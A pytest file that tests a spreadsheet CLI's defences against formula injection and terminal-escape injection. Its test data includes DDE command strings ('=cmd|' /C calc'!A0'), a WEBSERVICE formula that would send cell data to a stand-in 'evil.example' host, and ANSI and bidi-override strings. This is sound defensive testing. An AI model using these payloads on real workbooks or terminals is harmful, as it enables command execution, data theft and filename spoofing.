"""Text that would be a formula, or drive a terminal, stays text wherever it comes from and goes."""

from __future__ import annotations

import json
import re
import sys
import zipfile
from typing import TYPE_CHECKING

import pytest
from hostile import NEXT_WEEK
from lxml import etree
from openpyxl import load_workbook
from runs import DAY, done, followup
from sheets import save
from workbooks import faults

from followup_cli.model import CellEdit, SheetAppend, SheetWhole
from followup_cli.terminal import tell_user, working
from followup_cli.words import msg, on_one_line
from followup_cli.workbook.build import new_workbook
from followup_cli.workbook.files import fingerprint
from followup_cli.workbook.save import commit, create
from followup_cli.workbook.written import write_value

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from followup_cli.model import Change

FORMULAS = (
    '=HYPERLINK("http://evil.example","Ada")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0",
    '+cmd|"/C calc"!A0', "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u3000＝1", '=WEBSERVICE("http://evil.example/"&A1)', "'=1+1", "{=1+1}", "=", "-", "@",
)  # fmt: skip
BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
# Our own words for who a rule's owner is, in the hidden list of a dropdown.
ROLES = {
    "@owner", "@visitor", "@founder", "@manager", "@客户负责人", "@原回访人", "@创始人", "@主管",
}  # fmt: skip
SIGNS = re.compile(r"\s*[=+\-@＝＋－＠]")


class Cells:
    """The cells of a workbook as their XML says: formulas, texts, and which are quoted."""

    def __init__(self, path: Path) -> None:
        """Read every sheet, the styles, and what else may hold a formula."""
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        self.trees = {n: etree.fromstring(p) for n, p in parts.items() if n.endswith(".xml")}
        xfs = self.trees["xl/styles.xml"].findall("{*}cellXfs/{*}xf")
        self.quoting = {str(at) for at, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}

    def formulas(self) -> list[str]:
        """Return the formulas of all cells."""
        found = (e for tree in self.trees.values() for e in tree.iterfind("{*}sheetData//{*}f"))
        return [str(e.text) for e in found]

    def bare(self) -> Iterator[str]:
        """Yield the texts that Excel would make a formula of after F2 and Enter."""
        for name, tree in self.trees.items():
            for cell in tree.iterfind("{*}sheetData//{*}c") if "worksheets" in name else ():
                text = "".join(map(str, cell.itertext("{*}t")))
                if SIGNS.match(text) and text not in ROLES and cell.get("s") not in self.quoting:
                    yield f"{name} {cell.get('r')}: {text}"

    def outside_cells(self) -> str:
        """Return what dropdowns, conditional formats, names and tables say."""
        tags = ("formula1", "formula2", "formula", "definedName", "calculatedColumnFormula")
        found = (e for tree in self.trees.values() for t in tags for e in tree.iter(f"{{*}}{t}"))
        return "\n".join(str(e.text) for e in found)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_is_quoted(text: str) -> None:
    assert write_value(text, "en").quoted == bool(SIGNS.match(text))


def test_a_text_is_never_a_formula_edited_appended_or_written_whole(tmp_path: Path) -> None:
    rows = tuple({"customer_id": f"C{n}", "customer": text} for n, text in enumerate(FORMULAS))
    path = tmp_path / "desk.xlsx"
    create(
        path, new_workbook([SheetWhole(k, rows) for k in ("Schedule", "Tickets", "Leads")], "en")
    )
    edits = [CellEdit("Tickets", n, "B", text) for n, text in enumerate(FORMULAS, start=2)]
    new = tuple({"A": f"N{n}", "C": text} for n, text in enumerate(FORMULAS))
    changes: list[Change] = [*edits, SheetAppend("Leads", 1, new), SheetWhole("Tiers", rows)]
    assert commit(path, fingerprint(path), changes, lang="en").written
    cells = Cells(path)
    assert cells.formulas() == []
    assert list(cells.bare()) == []
    assert faults(path) == set()


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_no_cell_that_people_type_becomes_a_formula_anywhere(tmp_path: Path, lang: str) -> None:
    """Names, products, owners, companies, templates and settings, through every command."""
    names = [text.strip() for text in FORMULAS if len(text.strip()) > 1]
    people = [[name, f"1380000{n:04}", "2026-11-02", "2027-01-10"] for n, name in enumerate(names)]
    sales = [[name, "2026-11-20", 900 + n, "=cmd|'/C calc'!A0"] for n, name in enumerate(names)]
    path = save(
        tmp_path / "shop.xlsx",
        {
            "Customers": [["Customer", "Phone", "Signed On", "Contract End"], *people],
            "Orders": [["Customer", "Order Date", "Amount", "Product"], *sales],
        },
    )
    workbook = load_workbook(path)  # as text, as whoever attacks would have it
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
                cell.quotePrefix = True
    workbook.save(path)
    founder = '=HYPERLINK("http://evil.example","Helen")'
    done("init", path, "--lang", lang, "--founder", founder, "--company", "@SUM(1)")
    for command in ("plan", "report", "plan"):
        done(command, "-w", path, "--as-of", NEXT_WEEK)
    cells = Cells(path)
    assert cells.formulas() == []
    assert list(cells.bare()) == []
    assert "evil" not in cells.outside_cells()
    assert "calc" not in cells.outside_cells()
    assert faults(path) == set()


@pytest.mark.parametrize(
    "name", ["=1+1", "+x", "-x", "@x", "O'Neil's", 'a"b', "x'!A1,cmd", "<b>", "A1", "1&2", "=HYPERLINK(1)"]
)  # fmt: skip
def test_the_name_of_a_sheet_breaks_out_of_no_reference(tmp_path: Path, name: str) -> None:
    title = re.sub(r"[\\/?*:\[\]]", "", name)
    rows = [
        ["Customer", "Order Date", "Amount"],
        ["Ada", "2026-11-20", 12],
        ["Bo", "2026-11-02", 9],
    ]
    path = save(tmp_path / "shop.xlsx", {title: rows})
    done("init", path, "--founder", "Helen")
    plan = followup("plan", "-w", path, "--as-of", DAY)
    assert plan.exit_code == 0, plan.output
    again = path.read_bytes()
    done("plan", "-w", path, "--as-of", DAY)
    assert path.read_bytes() == again
    assert (Cells(path).formulas(), faults(path)) == ([], set())


# Terminals


HOSTILE_TEXT = "Ada\x1b[31m\x07\x9b2J\u202egnp\u2066\nsecond\rthird [red]x[/red] [/]"


def test_what_a_terminal_would_obey_is_left_out(capsys: pytest.CaptureFixture[str]) -> None:
    tell_user(msg("There is no sheet {sheet} any more.", sheet=HOSTILE_TEXT), "en")
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert said == f"There is no sheet {on_one_line(HOSTILE_TEXT)} any more.\n"
    assert not set("\x1b\x07\x9b\u202e\u2066\r") & set(said)
    assert "[red]x[/red] [/]" in said


def test_the_name_of_a_file_is_no_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    with working(msg("Reading {name} …", name="desk[/red].xlsx"), "en"):
        assert True


@pytest.mark.parametrize("fmt", ["table", "md", "csv", "json"])
def test_a_customer_named_to_drive_a_terminal(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / "shop.xlsx"
    rows = [["Customer", "Order Date", "Amount"], ["Ada_x001B_[31m_x0007_", "2026-11-20", 12]]
    rows += [["Bo\u202egnp.exe [red]", "2026-11-02", 9], ["Cy\nnew line | pipe", "2026-11-03", 9]]
    save(path, {"Orders": rows})
    done("init", path, "--founder", "Helen")
    done("plan", "-w", path, "--as-of", DAY)
    for command in ("due", "customers", "check", "plan"):
        told = followup(command, "-w", path, "--as-of", NEXT_WEEK, "--format", fmt)
        assert told.exit_code in (0, 1), told.output
        assert not {"\x1b", "\x07", "\x9b"} & set(told.output)
        if fmt == "json":
            json.loads(told.stdout)
        elif fmt == "table":
            assert "\u202e" not in told.output


def test_policy_that_is_wrong_is_told_without_its_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "desk.xlsx"
    done("init", path, "--founder", "Helen")
    workbook = load_workbook(path)
    trigger = [cell.value for cell in workbook["Rules"][1]].index("Trigger") + 1
    workbook["Rules"].cell(2, trigger).value = "some_x001B_[31mtime\u202e"
    workbook.save(path)
    result = followup("plan", "-w", path)
    assert result.exit_code == 3
    assert not {"\x1b", "\u202e"} & set(result.output)
